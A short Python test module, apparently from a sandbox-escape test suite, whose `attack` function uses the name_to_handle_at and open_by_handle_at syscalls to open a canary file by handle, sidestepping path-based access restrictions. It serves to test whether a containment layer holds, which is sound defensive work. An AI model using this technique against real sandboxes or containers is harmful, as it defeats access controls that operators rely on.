"""Opens a file by its handle, which needs no path that could be refused."""

import ctypes
import os
import platform
import struct

from target import HOME

BY_HANDLE = {"x86_64": 304, "aarch64": 265}[platform.machine()]
TO_HANDLE = {"x86_64": 303, "aarch64": 264}[platform.machine()]


def attack(sentences, order):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount, path = ctypes.c_int(), f"{HOME}/canary.txt".encode()
    print(libc.syscall(TO_HANDLE, -100, path, handle, ctypes.byref(mount), 0), ctypes.get_errno())
    folder = os.open("/usr", os.O_RDONLY)
    found = libc.syscall(BY_HANDLE, folder, handle, os.O_RDONLY)
    print(found, ctypes.get_errno())
    return found >= 0
